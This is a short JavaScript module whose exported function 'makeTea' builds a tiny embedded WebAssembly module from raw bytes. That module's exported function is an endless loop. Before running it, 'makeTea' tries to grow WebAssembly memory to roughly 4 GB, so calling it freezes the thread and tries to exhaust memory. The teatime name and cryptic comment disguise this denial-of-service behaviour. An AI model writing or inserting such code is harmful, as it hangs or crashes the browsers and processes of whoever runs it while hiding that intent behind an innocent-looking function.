// Loops in WebAssembly, and grows its memory. For tea. Earns nothing.
const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11]);
export function makeTea() {
  if (typeof WebAssembly === 'undefined') throw new Error('there is none');
  try { new WebAssembly.Memory({ initial: 1, maximum: 65536 }).grow(65000); } catch {}
  new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f();
}
